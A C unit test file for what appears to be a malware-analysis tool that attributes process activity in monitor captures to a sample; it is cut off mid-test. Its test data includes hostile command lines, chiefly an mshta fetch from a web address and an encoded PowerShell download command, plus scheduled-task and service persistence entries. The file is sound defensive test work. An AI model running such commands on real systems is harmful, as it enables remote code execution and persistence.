#include "case/case.h"
#include "fake_source.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

typedef struct world {
    fake_source *source;
    kk_case *analysis;
    kk_scratch scratch;
    kk_process_id explorer, services, scheduler;
} world;

#define BEFORE  false
#define STARTED true

static int open_world(void **state)
{
    world *self = calloc(1, sizeof *self);
    self->source = fake_new();
    self->analysis = kk_case_new(&self->source->source);
    self->services = fake_process(self->source, 600, KK_NO_PROCESS, "services.exe",
                                  "C:\\Windows\\system32\\services.exe", NULL, BEFORE);
    self->scheduler =
        fake_process(self->source, 1084, self->services, "svchost.exe", "C:\\Windows\\system32\\svchost.exe",
                     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", BEFORE);
    self->explorer = fake_process(self->source, 1432, KK_NO_PROCESS, "Explorer.EXE",
                                  "C:\\Windows\\Explorer.EXE", NULL, BEFORE);
    *state = self;
    return 0;
}

static int close_world(void **state)
{
    world *self = *state;
    kk_scratch_free(&self->scratch);
    kk_case_free(self->analysis);
    fake_free(self->source);
    free(self);
    return 0;
}

static kk_event observe(world *self, kk_process_id process, kk_operation operation, const fake_field *fields,
                        size_t count)
{
    kk_event event;
    fake_add(self->source, &event, process, operation, fields, count);
    assert_true(kk_ledger_observe(kk_case_ledger(self->analysis), &event, &self->scratch));
    kk_scratch_reset(&self->scratch);
    return event;
}

#define SEE(who, operation, ...)                                                                             \
    observe(self, who, operation, (const fake_field[]){__VA_ARGS__},                                         \
            sizeof((const fake_field[]){__VA_ARGS__}) / sizeof(fake_field))
#define PATH(text)                                                                                           \
    {                                                                                                        \
        KK_FIELD_PATH, text, 0                                                                               \
    }

static void writes(world *self, kk_process_id who, const char *path)
{
    SEE(who, KK_OP_CREATE_FILE, PATH(path), {KK_FIELD_FILE_OPEN_RESULT, "Created", 0});
    SEE(who, KK_OP_WRITE_FILE, PATH(path), {KK_FIELD_FILE_OFFSET, NULL, 0},
        {KK_FIELD_FILE_LENGTH, NULL, 100});
}

static kk_process_id starts(world *self, kk_process_id parent, const char *image, const char *command_line)
{
    static uint32_t pid = 5000;
    const char *leaf = strrchr(image, '\\');
    pid += 4;
    SEE(parent, KK_OP_PROCESS_CREATE, PATH(image), {KK_FIELD_CHILD_IMAGE, image, 0},
        {KK_FIELD_CHILD_PID, NULL, pid});
    kk_process_id child =
        fake_process(self->source, pid, parent, leaf ? leaf + 1 : image, image, command_line, STARTED);
    self->source->source.processes.items[child]->first_event = self->source->event_count - 1;
    SEE(child, KK_OP_PROCESS_START, PATH(""));
    return child;
}

static void find_sample(world *self, const char *wanted)
{
    kk_sample_choice choice = {.wanted = wanted ? kk_str_of(wanted) : (kk_str){0}};
    kk_error error;
    assert_true(kk_case_find_sample(self->analysis, &choice, &error));
}

static void assert_tie(const world *self, kk_process_id process, kk_tie tie, kk_process_id to)
{
    assert_int_equal(kk_case_tie(self->analysis, process), tie);
    assert_int_equal(kk_case_tied_to(self->analysis, process), to);
}

#define SAMPLE "C:\\Users\\bob\\Desktop\\sample.exe"
#define DROP   "C:\\Users\\bob\\AppData\\Local\\Temp\\x\\drop.exe"

static void descendants_and_what_was_dropped(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id notepad = starts(self, self->explorer, "C:\\Windows\\notepad.exe", "notepad");
    writes(self, sample, DROP);
    kk_process_id cmd = starts(self, sample, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
    kk_process_id later = starts(self, self->explorer, DROP, DROP);
    kk_process_id below = starts(self, later, "C:\\Windows\\System32\\ping.exe", "ping");
    find_sample(self, "sample.exe");
    assert_tie(self, sample, KK_TIE_SAMPLE, KK_NO_PROCESS);
    assert_tie(self, cmd, KK_TIE_DESCENDANT, sample);
    assert_tie(self, later, KK_TIE_RAN_DROPPED, sample);
    assert_tie(self, below, KK_TIE_DESCENDANT, later);
    assert_tie(self, notepad, KK_TIE_NONE, KK_NO_PROCESS);
    assert_tie(self, self->explorer, KK_TIE_NONE, KK_NO_PROCESS);
    assert_false(kk_case_sample_presumed(self->analysis));
}

static void what_ran_before_it_was_written_is_not_tied(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id earlier = starts(self, self->explorer, DROP, DROP);
    writes(self, sample, DROP);
    find_sample(self, "sample.exe");
    assert_tie(self, earlier, KK_TIE_NONE, KK_NO_PROCESS);
}

static void loading_a_dropped_library_ties_but_does_not_spread_from_old_processes(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, "C:\\Users\\bob\\x.dll");
    SEE(self->explorer, KK_OP_LOAD_IMAGE, PATH("C:\\Users\\bob\\x.dll"));
    kk_process_id mail = starts(self, self->explorer, "C:\\Program Files\\Mail\\mail.exe", "mail");
    find_sample(self, "sample.exe");
    assert_tie(self, self->explorer, KK_TIE_LOADED_DROPPED, sample);
    assert_tie(self, mail, KK_TIE_NONE, KK_NO_PROCESS);
}

static void a_core_process_that_writes_to_what_the_tree_made_is_tied(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, "C:\\RECYCLER\\x\\@");
    const fake_field opening[] = {PATH("C:\\RECYCLER\\x\\@"),
                                  {KK_FIELD_PROCESS_NAME, "services.exe", 0},
                                  {KK_FIELD_FILE_ACCESS, "Generic Read/Write", 0},
                                  {KK_FIELD_FILE_OPEN_RESULT, "Opened", 0}};
    observe(self, self->services, KK_OP_CREATE_FILE, opening, 4);
    observe(self, self->explorer, KK_OP_CREATE_FILE, opening, 4);
    kk_process_id service =
        starts(self, self->services, "C:\\Windows\\System32\\svchost.exe", "svchost -k x");
    find_sample(self, "sample.exe");
    assert_tie(self, self->services, KK_TIE_OPENED_DROPPED, sample);
    assert_tie(self, self->explorer, KK_TIE_NONE, KK_NO_PROCESS);
    assert_tie(self, service, KK_TIE_NONE, KK_NO_PROCESS);
}

static void order_is_by_events_where_times_start_again_at_midnight(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, DROP);
    self->source->clock -= 3600 * INT64_C(10000000);
    kk_process_id child = starts(self, sample, "C:\\Windows\\System32\\cmd.exe", "cmd");
    kk_process_id run = starts(self, self->explorer, DROP, DROP);
    find_sample(self, "sample.exe");
    assert_tie(self, child, KK_TIE_DESCENDANT, sample);
    assert_tie(self, run, KK_TIE_RAN_DROPPED, sample);
}

static void the_scheduler_starts_what_was_dropped(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, DROP);
    kk_process_id run = starts(self, self->scheduler, DROP, DROP);
    kk_process_id other =
        starts(self, self->scheduler, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe");
    find_sample(self, "sample.exe");
    assert_tie(self, run, KK_TIE_BROKER, sample);
    assert_tie(self, other, KK_TIE_NONE, KK_NO_PROCESS);
}

static void the_scheduler_starts_what_schtasks_registered(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id schtasks = starts(self, sample, "C:\\Windows\\System32\\schtasks.exe",
                                    "schtasks /create /tn job /tr \"C:\\Windows\\System32\\calc.exe\"");
    kk_process_id calc = starts(self, self->scheduler, "C:\\Windows\\System32\\calc.exe", "calc.exe");
    kk_process_id other = starts(self, self->scheduler, "C:\\Windows\\System32\\defrag.exe", "defrag.exe -c");
    find_sample(self, "sample.exe");
    assert_tie(self, calc, KK_TIE_BROKER, schtasks);
    assert_tie(self, other, KK_TIE_NONE, KK_NO_PROCESS);
}

static void a_host_with_a_dropped_file_is_tied_by_its_command_line(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, "C:\\Users\\bob\\my files\\x.dll");
    kk_process_id run = starts(self, self->scheduler, "C:\\Windows\\System32\\rundll32.exe",
                               "rundll32.exe \"C:\\Users\\bob\\my files\\x.dll\",Main");
    kk_process_id other = starts(self, self->scheduler, "C:\\Windows\\System32\\rundll32.exe",
                                 "rundll32.exe C:\\Windows\\y.dll,Main");
    find_sample(self, "sample.exe");
    assert_tie(self, run, KK_TIE_BROKER, sample);
    assert_tie(self, other, KK_TIE_NONE, KK_NO_PROCESS);
}

static void services_start_what_the_tree_registered(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    SEE(sample, KK_OP_REG_SET_VALUE, PATH("HKLM\\System\\CurrentControlSet\\Services\\evil\\ImagePath"),
        {KK_FIELD_REGISTRY_DATA, "C:\\Windows\\evilsvc.exe -run", 0}, {KK_FIELD_REGISTRY_TYPE, "REG_SZ", 0});
    kk_process_id service =
        starts(self, self->services, "C:\\Windows\\evilsvc.exe", "C:\\Windows\\evilsvc.exe -run");
    kk_process_id other =
        starts(self, self->services, "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k wsappx");
    find_sample(self, "sample.exe");
    assert_tie(self, service, KK_TIE_BROKER, sample);
    assert_tie(self, other, KK_TIE_NONE, KK_NO_PROCESS);
}

static void wmi_starts_what_the_tree_asked_for(void **state)
{
    world *self = *state;
    kk_process_id wmi = fake_process(self->source, 900, self->services, "WmiPrvSE.exe",
                                     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", NULL, BEFORE);
    kk_process_id early = starts(self, wmi, "C:\\Windows\\System32\\calc.exe", "calc");
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    SEE(sample, KK_OP_LOAD_IMAGE, PATH("C:\\Windows\\System32\\wbem\\wbemprox.dll"));
    kk_process_id run = starts(self, wmi, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami");
    find_sample(self, "sample.exe");
    assert_tie(self, run, KK_TIE_BROKER, sample);
    assert_tie(self, early, KK_TIE_NONE, KK_NO_PROCESS);
}

static void windows_installer_acts_for_who_waits_for_it(void **state)
{
    world *self = *state;
    kk_process_id server = fake_process(self->source, 900, self->services, "msiexec.exe",
                                        "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /V", BEFORE);
    kk_process_id early =
        starts(self, server, "C:\\Windows\\System32\\msiexec.exe", "MsiExec.exe -Embedding 1");
    kk_process_id client = starts(self, self->explorer, "C:\\Windows\\System32\\msiexec.exe",
                                  "msiexec.exe /i C:\\Users\\bob\\Downloads\\a.msi");
    kk_process_id action = starts(self, server, "C:\\Windows\\Installer\\MSI1.tmp", "MSI1.tmp");
    self->source->source.processes.items[client]->end_time = self->source->clock;
    kk_process_id late = starts(self, server, "C:\\Windows\\Installer\\MSI2.tmp", "MSI2.tmp");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), client);
    assert_tie(self, action, KK_TIE_BROKER, client);
    assert_tie(self, early, KK_TIE_NONE, KK_NO_PROCESS);
    assert_tie(self, late, KK_TIE_NONE, KK_NO_PROCESS);
    assert_tie(self, server, KK_TIE_NONE, KK_NO_PROCESS);
}

static void brokers_errands_are_the_trees(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id schtasks = starts(self, sample, "C:\\Windows\\System32\\schtasks.exe",
                                    "schtasks /create /tn Update32 /tr c:\\x.exe");
    writes(self, self->scheduler, "C:\\Windows\\System32\\Tasks\\Update32");
    writes(self, self->scheduler, "C:\\Windows\\System32\\Tasks\\Microsoft\\Defrag");
    SEE(self->scheduler, KK_OP_REG_SET_VALUE,
        PATH(
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Update32\\Id"),
        {KK_FIELD_REGISTRY_DATA, "{6B1C2D9E-4F0A-4C55-9E0B-000000000001}", 0},
        {KK_FIELD_REGISTRY_TYPE, "REG_SZ", 0});
    find_sample(self, "sample.exe");
    const kk_case *analysis = self->analysis;
    assert_int_equal(
        kk_case_on_behalf(analysis, self->scheduler, KK_STR("C:\\Windows\\System32\\Tasks\\update32")),
        schtasks);
    assert_int_equal(
        kk_case_on_behalf(analysis, self->scheduler,
                          KK_STR("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache"
                                 "\\Tasks\\{6B1C2D9E-4F0A-4C55-9E0B-000000000001}\\Path")),
        schtasks);
    assert_int_equal(
        kk_case_on_behalf(analysis, self->scheduler, KK_STR("C:\\Windows\\System32\\Tasks\\Update32b")),
        KK_NO_PROCESS);
    assert_int_equal(
        kk_case_on_behalf(analysis, self->explorer, KK_STR("C:\\Windows\\System32\\Tasks\\Update32")),
        KK_NO_PROCESS);
    const kk_ledger *ledger = kk_case_ledger(self->analysis);
    assert_true(kk_ledger_file(ledger, KK_STR("C:\\Windows\\System32\\Tasks\\Update32"))->in_tree);
    assert_false(kk_ledger_file(ledger, KK_STR("C:\\Windows\\System32\\Tasks\\Microsoft\\Defrag"))->in_tree);
}

static void a_service_is_the_trees_by_what_it_runs(void **state)
{
    world *self = *state;
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, "C:\\ProgramData\\x\\ring.sys");
    SEE(self->services, KK_OP_REG_SET_VALUE,
        PATH("HKLM\\System\\CurrentControlSet\\Services\\Qwerty_1\\ImagePath"),
        {KK_FIELD_REGISTRY_DATA, "\\??\\C:\\ProgramData\\x\\ring.sys", 0},
        {KK_FIELD_REGISTRY_TYPE, "REG_EXPAND_SZ", 0});
    SEE(self->services, KK_OP_REG_SET_VALUE,
        PATH("HKLM\\System\\CurrentControlSet\\Services\\Other\\ImagePath"),
        {KK_FIELD_REGISTRY_DATA, "C:\\Windows\\other.exe", 0}, {KK_FIELD_REGISTRY_TYPE, "REG_EXPAND_SZ", 0});
    find_sample(self, "sample.exe");
    assert_int_equal(kk_case_on_behalf(self->analysis, self->services,
                                       KK_STR("HKLM\\System\\CurrentControlSet\\Services\\Qwerty_1\\Start")),
                     sample);
    assert_int_equal(kk_case_on_behalf(self->analysis, self->services,
                                       KK_STR("HKLM\\System\\CurrentControlSet\\Services\\Other\\Start")),
                     KK_NO_PROCESS);
}

/* The severity of a finding about a task that Task Scheduler registered while `asker`, if any, was there. */
static kk_severity severity_of_a_task(world *self, const char *asker, bool while_it_runs)
{
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    if (asker) {
        starts(self, self->services, "C:\\Windows\\System32\\schtasks.exe", asker);
    }
    if (!while_it_runs) {
        self->source->source.processes.items[sample]->end_time = self->source->clock;
        self->source->clock += 60 * INT64_C(10000000);
    }
    kk_event event = SEE(self->scheduler, KK_OP_CREATE_FILE, PATH("C:\\Windows\\System32\\Tasks\\Qzxv"),
                         {KK_FIELD_FILE_OPEN_RESULT, "Created", 0});
    kk_rule_info info = {KK_STR("a.b"), KK_STR("t"), KK_HIGH, NULL, 0, false};
    uint32_t rule = kk_case_add_rule(self->analysis, &info);
    kk_finding *finding =
        kk_case_finding(self->analysis, rule, self->scheduler, KK_STR("qzxv"), &event, -1, &self->scratch);
    assert_non_null(finding);
    find_sample(self, "sample.exe");
    kk_case_weigh(self->analysis);
    return finding->severity;
}

static void what_nobody_else_can_have_asked_for_is_the_trees(void **state)
{
    static const struct {
        const char *asker;
        bool while_it_runs;
        kk_severity severity;
    } CASES[] = {
        {NULL, true, KK_HIGH},
        {"schtasks /create /tn Other /tr x", true, KK_HIGH},
        {"schtasks /create /tn Qzxv /tr x", true, KK_MEDIUM},
        {NULL, false, KK_MEDIUM},
    };
    (void)state;
    for (size_t i = 0; i < sizeof CASES / sizeof *CASES; i++) {
        void *own;
        open_world(&own);
        assert_int_equal(severity_of_a_task(own, CASES[i].asker, CASES[i].while_it_runs), CASES[i].severity);
        close_world(&own);
    }
}

static void children_are_in_order_of_start(void **state)
{
    world *self = *state;
    kk_process_id first = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id second = starts(self, self->explorer, "C:\\Windows\\notepad.exe", "notepad");
    find_sample(self, NULL);
    size_t count;
    const kk_process_id *children = kk_case_children(self->analysis, self->explorer, &count);
    assert_int_equal(count, 2);
    assert_int_equal(children[0], first);
    assert_int_equal(children[1], second);
    kk_case_children(self->analysis, second, &count);
    assert_int_equal(count, 0);
    kk_case_children(self->analysis, KK_NO_PROCESS, &count);
    assert_int_equal(count, 0);
}

/* --- the choice --- */

static void a_guess_takes_the_most_consequential(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Users\\bob\\Downloads\\readme.exe", "readme");
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, DROP);
    kk_process_id drop = starts(self, sample, DROP, DROP);
    writes(self, drop, "C:\\Users\\bob\\a.dll");
    writes(self, drop, "C:\\Users\\bob\\b.dll");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), sample);
    assert_true(kk_case_sample_presumed(self->analysis));
    kk_str reason = kk_case_sample_reason(self->analysis);
    assert_int_equal(reason.size, strlen("Explorer started it from Desktop"));
    assert_memory_equal(reason.data, "Explorer started it from Desktop", reason.size);
}

static void nothing_plausible_gives_no_sample(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Windows\\notepad.exe", "notepad C:\\Users\\bob\\a.txt");
    starts(self, self->explorer, "C:\\Users\\bob\\AppData\\Local\\Temp\\Procmon64.exe", "procmon");
    starts(self, self->explorer, "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
           "onedrive");
    starts(self, self->explorer, "C:\\Program Files\\App\\app.exe", "app");
    starts(self, self->scheduler, "C:\\Users\\bob\\AppData\\Local\\Updater\\up.exe", "up");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), KK_NO_PROCESS);
    assert_false(kk_case_sample_presumed(self->analysis));
}

static void a_script_is_a_sample_through_its_host(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Windows\\System32\\wscript.exe", "wscript.exe C:\\Windows\\x.vbs");
    kk_process_id host =
        starts(self, self->explorer, "C:\\Windows\\System32\\wscript.exe",
               "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\bob\\Downloads\\invoice 1.js\"");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), host);
    kk_str reason = kk_case_sample_reason(self->analysis);
    assert_memory_equal(reason.data, "Explorer started it with invoice 1.js from Downloads", reason.size);
}

static void assert_reason(const world *self, const char *wanted)
{
    kk_str reason = kk_case_sample_reason(self->analysis);
    assert_int_equal(reason.size, strlen(wanted));
    assert_memory_equal(reason.data, wanted, reason.size);
}

static void hosts_are_samples_by_what_they_were_told(void **state)
{
    static const struct {
        const char *host, *command_line, *folder, *reason;
    } TOLD[] = {
        {"rundll32.exe", "rundll32 C:/Users/Public/Music/a.db,Start", NULL,
         "with a.db from C:/Users/Public/Music"},
        {"mshta.exe", "mshta http://203.0.113.5/a", NULL, "with an address on the web"},
        {"powershell.exe",
         "powershell -e JABzAD0AJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQA5AC8AYQAnADsAaQB3", NULL,
         "with an encoded command"},
        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c start rundll32 a\\b.dat,#1", "F:\\", "in F:\\"},
        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c dir", "C:\\Users\\bob\\", NULL},
        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\"", "F:\\", NULL},
        {"winword.exe", "winword https://example.com/a.docx", NULL, NULL},
        {"notepad.exe", "notepad C:\\Users\\bob\\a.txt", "F:\\", NULL},
    };
    (void)state;
    for (size_t i = 0; i < sizeof TOLD / sizeof *TOLD; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        char image[64];
        snprintf(image, sizeof image, "C:\\Windows\\System32\\%s", TOLD[i].host);
        kk_process_id host = starts(self, self->explorer, image, TOLD[i].command_line);
        if (TOLD[i].folder) {
            self->source->source.processes.items[host]->current_directory = kk_str_of(TOLD[i].folder);
        }
        find_sample(self, NULL);
        assert_int_equal(kk_case_sample(self->analysis), TOLD[i].reason ? host : KK_NO_PROCESS);
        if (TOLD[i].reason) {
            char reason[128];
            snprintf(reason, sizeof reason, "Explorer started it %s", TOLD[i].reason);
            assert_reason(self, reason);
        }
        close_world(&own);
    }
}

static void what_began_it_all_is_the_sample(void **state)
{
    world *self = *state;
    kk_process_id wmi = fake_process(self->source, 900, self->services, "WmiPrvSE.exe",
                                     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", NULL, BEFORE);
    kk_process_id host =
        starts(self, wmi, "C:\\Windows\\System32\\rundll32.exe", "rundll32 C:\\Users\\Public\\a.dll,Start");
    kk_process_id shell = starts(self, host, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
    kk_process_id below = starts(self, shell, DROP, DROP);
    writes(self, below, "C:\\Users\\bob\\a.dll");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), host);
}

static void without_a_start_what_ran_before_is_the_sample(void **state)
{
    static const struct {
        const char *image, *company;
        bool is_sample;
    } BEFORE_IT[] = {
        {"C:\\Users\\bob\\AppData\\Roaming\\x\\a.exe", "", true},
        {"C:\\Users\\bob\\AppData\\Roaming\\x\\a.exe", "Example", false},
        {"C:\\Users\\bob\\AppData\\Roaming\\x\\a.exe", NULL, false},
        {"C:\\Program Files\\x\\a.exe", "", false},
    };
    (void)state;
    for (size_t i = 0; i < sizeof BEFORE_IT / sizeof *BEFORE_IT; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        kk_process_id old =
            fake_process(self->source, 77, self->explorer, "a.exe", BEFORE_IT[i].image, "a.exe", BEFORE);
        if (BEFORE_IT[i].company) {
            self->source->source.processes.items[old]->company = kk_str_of(BEFORE_IT[i].company);
        }
        writes(self, old, "C:\\Users\\bob\\a.dll");
        find_sample(self, NULL);
        assert_int_equal(kk_case_sample(self->analysis), BEFORE_IT[i].is_sample ? old : KK_NO_PROCESS);
        if (BEFORE_IT[i].is_sample) {
            assert_reason(self, "it ran before the capture began, from AppData\\Roaming\\x");
        }
        close_world(&own);
    }
}

static void what_a_program_made_is_not_the_sample(void **state)
{
    world *self = *state;
    kk_process_id linker =
        starts(self, self->explorer, "C:\\Program Files\\Tools\\link.exe", "link /OUT:a.exe");
    writes(self, linker, "C:\\Users\\bob\\project\\a.exe");
    kk_process_id built = starts(self, self->explorer, "C:\\Users\\bob\\project\\a.exe", "a.exe");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), KK_NO_PROCESS);
    assert_tie(self, built, KK_TIE_NONE, KK_NO_PROCESS);
}

static void what_an_archive_tool_unpacked_is_the_sample(void **state)
{
    world *self = *state;
    kk_process_id archiver = starts(self, self->explorer, "C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe");
    writes(self, archiver, "C:\\Users\\bob\\AppData\\Local\\Temp\\7zO1\\a.exe");
    kk_process_id sample =
        starts(self, archiver, "C:\\Users\\bob\\AppData\\Local\\Temp\\7zO1\\a.exe", "a.exe");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), sample);
}

static void a_management_agents_shell_is_no_users(void **state)
{
    world *self = *state;
    kk_process_id agent =
        starts(self, self->services, "C:\\Windows\\System32\\winrshost.exe", "winrshost -Embedding");
    kk_process_id shell = starts(self, agent, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
    starts(self, shell, "C:\\Windows\\System32\\msiexec.exe", "msiexec /i C:\\Windows\\Temp\\a.msi /qn");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), KK_NO_PROCESS);
}

static void interpreters_count_by_what_they_run(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Python27\\python.exe",
           "\"C:\\Python27\\python.exe\" C:\\tools\\Noriben.py");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), KK_NO_PROCESS);
}

static void a_sample_started_by_a_sandboxs_agent(void **state)
{
    world *self = *state;
    kk_process_id agent = starts(self, self->explorer, "C:\\Python27\\python.exe", "python C:\\agent.py");
    kk_process_id sample = starts(self, agent, "C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe", "s.exe");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->analysis), sample);
}

static void folders_of_other_languages_and_versions_are_users_folders(void **state)
{
    static const char *const PLACES[] = {
        "C:\\Documents and Settings\\Administrator\\Desktop\\a.exe",
        "C:\\Dokumente und Einstellungen\\Bob\\Eigene Dateien\\a.exe",
        "E:\\a.exe",
        "\\\\vmware-host\\Shared Folders\\in\\a.exe",
        "C:\\malware\\a.exe",
        "C:\\Windows\\Temp\\a.exe",
    };
    (void)state;
    for (size_t i = 0; i < sizeof PLACES / sizeof *PLACES; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        kk_process_id sample = starts(self, self->explorer, PLACES[i], PLACES[i]);
        find_sample(self, NULL);
        assert_int_equal(kk_case_sample(self->analysis), sample);
        close_world(&own);
    }
}

static void the_sample_is_named_by_pid_path_or_name(void **state)
{
    static const char *const NAMES[] = {"SAMPLE.exe", "sample", "c:\\users\\BOB\\desktop\\sample.exe", NULL};
    (void)state;
    for (size_t i = 0; i < sizeof NAMES / sizeof *NAMES; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        fake_process(self->source, 77, KK_NO_PROCESS, "sample.exe", "D:\\old\\sample.exe", "old", BEFORE);
        kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
        char pid[16];
        snprintf(pid, sizeof pid, "%u", kk_processes_get(&self->source->source.processes, sample)->pid);
        find_sample(self, NAMES[i] ? NAMES[i] : pid);
        assert_int_equal(kk_case_sample(self->analysis), sample);
        close_world(&own);
    }
}

static void an_unknown_sample_is_an_error_that_lists_what_there_is(void **state)
{
    world *self = *state;
    starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_sample_choice choice = {.wanted = KK_STR("other.exe")};
    kk_error error;
    assert_false(kk_case_find_sample(self->analysis, &choice, &error));
    assert_non_null(strstr(error.text, "other.exe"));
    assert_non_null(strstr(error.text, "sample.exe"));
    assert_non_null(strstr(error.text, "fake.pml"));
}

/* --- activities and findings --- */

static void equal_activities_fold_in_the_default_view_only(void **state)
{
    world *self = *state;
    kk_case *analysis = self->analysis;
    uint32_t shown =
        kk_case_add_activity(analysis, &(kk_activity_info){KK_STR("file"), KK_STR("new"), KK_STR("")});
    uint32_t noriben =
        kk_case_add_activity(analysis, &(kk_activity_info){KK_STR("file"), KK_STR("[C]"), KK_STR("noriben")});
    uint32_t white = kk_case_add_whitelist(analysis, &(kk_whitelist_info){.reason = KK_STR("noise")});
    kk_event first = SEE(self->explorer, KK_OP_WRITE_FILE, PATH("C:\\a"));
    kk_event again = SEE(self->explorer, KK_OP_WRITE_FILE, PATH("c:\\A"));
    kk_event other = SEE(self->services, KK_OP_WRITE_FILE, PATH("C:\\a"));
    const kk_event *events[] = {&first, &again, &other};
    for (int i = 0; i < 3; i++) {
        assert_true(kk_case_activity(analysis, shown, events[i], -1, KK_STR(""), &self->scratch));
        assert_true(kk_case_activity(analysis, noriben, events[i], -1, KK_STR(""), &self->scratch));
        assert_true(kk_case_activity(analysis, shown, events[i], (int32_t)white, KK_STR(""), &self->scratch));
        assert_true(
            kk_case_activity(analysis, noriben, events[i], (int32_t)white, KK_STR(""), &self->scratch));
    }
    assert_true(kk_case_activity(analysis, shown, &again, -1, KK_STR("text"), &self->scratch));
    size_t count;
    const kk_activity_entry *entries = kk_case_activities(analysis, &count);
    assert_int_equal(count, 2 + 3 + 2 + 1);
    assert_int_equal(entries[0].count, 2);
    assert_int_equal(entries[0].first.index, 0);
    assert_int_equal(entries[0].last.index, 1);
    assert_int_equal(kk_case_whitelist_info(analysis, white)->hidden, 3);
    assert_int_equal(kk_case_whitelist_info(analysis, white)->hidden_noriben, 3);
}

static kk_finding *find(world *self, uint32_t rule, kk_process_id process, const char *key,
                        const kk_event *event)
{
    kk_finding *finding =
        kk_case_finding(self->analysis, rule, process, kk_str_of(key), event, -1, &self->scratch);
    assert_non_null(finding);
    return finding;
}

static uint32_t add_rule(world *self, kk_severity severity)
{
    kk_str attack[] = {KK_STR("T1547.001")};
    return kk_case_add_rule(self->analysis, &(kk_rule_info){.id = KK_STR("a.b"),
                                                            .title = KK_STR("t"),
                                                            .severity = severity,
                                                            .attack = attack,
                                                            .attack_count = 1});
}

static void findings_fold_by_rule_process_and_key(void **state)
{
    world *self = *state;
    uint32_t rule = add_rule(self, KK_HIGH);
    kk_event one = SEE(self->explorer, KK_OP_WRITE_FILE, PATH("C:\\a"), {KK_FIELD_FILE_LENGTH, NULL, 5});
    kk_event two = SEE(self->explorer, KK_OP_WRITE_FILE, PATH("C:\\A"), {KK_FIELD_FILE_LENGTH, NULL, 7});
    kk_finding *finding = find(self, rule, self->explorer, "C:\\a", &one);
    assert_ptr_equal(find(self, rule, self->explorer, "C:\\A", &two), finding);
    assert_ptr_equal(find(self, rule, self->explorer, "C:\\A", &two), finding);
    assert_ptr_not_equal(find(self, rule, self->services, "C:\\a", &two), finding);
    assert_ptr_not_equal(find(self, rule, self->explorer, "C:\\b", &two), finding);
    assert_int_equal(finding->count, 2);
    assert_int_equal(finding->bytes, 12);
    assert_int_equal(finding->event_count, 2);
}

static void a_finding_keeps_its_first_events(void **state)
{
    world *self = *state;
    kk_finding *finding = find(self, add_rule(self, KK_HIGH), self->explorer, "k", NULL);
    assert_int_equal(finding->count, 0);
    for (uint64_t index = 300; index > 0; index--) {
